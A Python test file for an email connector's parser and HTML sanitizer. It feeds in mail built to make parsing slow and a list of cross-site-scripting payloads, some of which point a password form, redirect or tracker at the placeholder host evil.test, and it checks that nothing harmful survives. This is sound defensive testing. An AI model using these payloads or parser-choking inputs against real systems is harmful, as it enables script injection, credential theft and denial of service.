"""Mail that is written to stop a mailbox: it is read at once, or stands there to be seen."""

import time
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from connectors._email_text import harmless, text_of_html
from hub.errors import HookRejected, HookUnreadable
from hub.message import Inbound
from hub.signal import Unreadable
from tests.connectors.letters import RIMA, heard, mail, mailbox, read
from tests.connectors.oddities import assert_well_formed
from tests.connectors.test_email_hooks import SENDGRID, multipart

SECONDS = 1.0
"""Far above what a reading takes, and far below what it took where time grew with the square."""
SIZE = 12_000

HTML = {
    "unclosed tags": "<a " * (SIZE // 3),
    "quotes": '<a href="' * (SIZE // 9),
    "comments": "<!--" * (SIZE // 4),
    "nested": "<div>a" * (SIZE // 6),
    "misnested": "<p><font color=%s>" * (SIZE // 18) % tuple(range(SIZE // 18)),
    "font in quotes": '<p><font "<" color=%s>' * (SIZE // 22) % tuple(range(SIZE // 22)),
    "tables": "<table>" * (SIZE // 7),
    "attributes": "<p " + " ".join(f"x{n}" for n in range(SIZE // 6)) + ">",
    "spaces": f"<pre>{' ' * SIZE}x</pre>",
    "too many tags": "<i>x</i>" * SIZE,
}
TEXTS = {
    "On": "On aaaa\n" * (SIZE // 8),
    "wrote": "On " + "wrote: " * (SIZE // 7),
    "digits": "1" * SIZE,
    "lines of digits": ("1" * 203 + "\n") * (SIZE // 204),
    "From": "From: a\n" * (SIZE // 8),
    "long": "1" * 3_000_000,
}
HEADERS = {
    "quotes": '"' * SIZE,
    "brackets": "(" * SIZE,
    "words": "=?utf-8?Q?a?= " * (SIZE // 14),
    "punycode": "=?punycode?Q?" + "a" * SIZE + "?=",
    "commas": "a@b.test," * (SIZE // 9),
    "parameters": "; ".join(f"name*{n}*=a" for n in range(SIZE // 11)),
}
NAMED = ("From", "To", "Subject", "Message-ID", "References", "Date", "Content-Type",
         "Content-Disposition", "Content-Transfer-Encoding", "MIME-Version")  # fmt: skip
HEAD = f"From: {RIMA}\r\nSubject: poison\r\nMessage-ID: <p@x>\r\n".encode()
NESTED = b"".join(
    b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(10_000)
)
POISON = {
    "10,000 nested parts": NESTED + b"\r\ndeep",
    "nested mails": b"Content-Type: message/rfc822\r\n\r\n" * 3000 + b"\r\nx",
    "200,000 parts": b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\n\n" * 200_000,
    "50,000 headers": b"".join(b"X-%d: a\r\n" % n for n in range(50_000)) + b"\r\nhi",
    "a header of a megabyte": b"X-Long: " + b"a" * 10**6 + b"\r\n\r\nhi",
    "a bad boundary": b'Content-Type: multipart/mixed; boundary="' + b"(" * 5000 + b'"\r\n\r\nhi',
    "NUL": b"X: \0\r\n\0\r\n\r\n\0hi\0",
    "charset punycode": b"Content-Type: text/plain; charset=punycode\r\n\r\n" + b"-9" * SIZE,
    "a lone surrogate": b"Content-Type: text/plain; charset=utf-7\r\n\r\n+2AA-",
    "flowed": b"Content-Type: text/plain; format=flowed\r\n\r\n" + b"a \r\n" * SIZE,
    "no type at all": b"Content-Type: \0/\xff; charset=\0\r\n\r\nhi",
}


class Watch:
    def __enter__(self) -> None:
        self.begun = time.process_time()

    def __exit__(self, *_: object) -> None:
        took = time.process_time() - self.begun
        assert took < SECONDS, f"took {took:.1f} s"


@pytest.mark.parametrize("name", HTML)
def test_no_html_takes_long(name: str) -> None:
    with Watch():
        message = heard(mail(html=HTML[name])).message
    assert len(message.html) < 40 * len(HTML[name])


@pytest.mark.parametrize("name", TEXTS)
def test_no_text_takes_long(name: str) -> None:
    letter = b"From: a@b.test\r\n\r\n" + TEXTS[name].encode()
    with Watch():
        message = heard(letter).message
    assert message.text[:50_000] == TEXTS[name].strip()[:50_000]


@pytest.mark.slow
@pytest.mark.parametrize("name", HEADERS)
def test_no_header_takes_long(name: str) -> None:
    for header in NAMED:
        sender = "" if header == "From" else f"From: {RIMA}\r\n"
        raw = f"{sender}{header}: {HEADERS[name]}\r\n\r\nhi".encode()
        with Watch():
            [found] = read(raw)
        assert isinstance(found, Inbound | Unreadable), header


@pytest.mark.parametrize("name", POISON)
def test_a_poisoned_mail_is_a_message_that_can_be_seen(name: str) -> None:
    with Watch():
        message = heard(HEAD + POISON[name])
    assert_well_formed(message)
    assert (message.message.subject, message.external_id) == ("poison", "p@x")


def test_a_form_is_no_way_around() -> None:
    for inbound in ("mailgun", "sendgrid"):
        connector = mailbox(inbound=inbound)
        for body in (b"--b\r\n" + NESTED, b"--b\r\n\r\n" * 100_000):
            given = replace(multipart(SENDGRID), body=body)
            with Watch(), pytest.raises(HookUnreadable):
                connector.parse(given)
            with Watch(), pytest.raises(HookRejected):
                connector.check(given)


def test_words_beyond_what_is_looked_at_are_there_all_the_same() -> None:
    html = "<p>first &amp; foremost</p>" + "<i>x</i>" * 30_000 + "<script>last</script>"
    text = text_of_html(html)
    assert (text[:16], text[-4:]) == ("first & foremost", "last")
    assert "<script" not in harmless(html)
    picture = f'<p>before<img src="data:image/png;base64,{"A" * 600_000}">after</p>'
    assert text_of_html(picture) == "beforeafter"


def test_a_text_too_long_to_show_stands_whole_in_the_html() -> None:
    message = heard(HEAD + b"\r\n" + b"word " * 40_000 + b"the end").message
    assert len(message.text) == 100_001
    assert "the end" in message.html


def test_an_answers_last_reference_counts_however_many_there_are() -> None:
    chain = " ".join(f"<r{n}@mail.example.test>" for n in range(3000))
    raw = f"From: {RIMA}\r\nReferences: {chain}\r\n\r\nhi".encode()
    reply = heard(raw).reply_to
    assert reply
    assert reply.external_id == "r2999@mail.example.test"


XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvA&#x09;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<iframe src='https://evil.test'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.test'><input name=password></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href='https://evil.test'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<p style='background:url(https://evil.test/p.gif);position:fixed'>x</p>",
    "<td background='https://evil.test/p.gif'>x</td>",
    "<body onload=alert(1)>x",
    "<video src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<font/onmouseover=alert(1)>x</font>",
    "<a href='https://x.test' target=_blank ping='https://evil.test'>x</a>",
]
ALLOWED_SCHEMES = ("http:", "https:", "mailto:", "tel:", "cid:")


@pytest.mark.parametrize("payload", XSS)
def test_nothing_runs_loads_or_submits(payload: str) -> None:
    found: list[tuple[str, str, str]] = []

    class Looking(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, "", ""))
            found.extend((tag, name, value or "") for name, value in attrs)

    shown = heard(mail(html=f"<div>{payload}</div><p>after</p>")).message.html
    Looking().feed(shown)
    for tag, name, value in found:
        assert tag not in {"script", "svg", "math", "iframe", "object", "embed", "form", "input",
                           "button", "meta", "base", "link", "style", "video", "body"}  # fmt: skip
        assert not name.startswith("on")
        assert name not in {"style", "background", "ping", "target", "formaction", "srcdoc"}
        if name in ("href", "src"):
            assert value.startswith(ALLOWED_SCHEMES) or ":" not in value
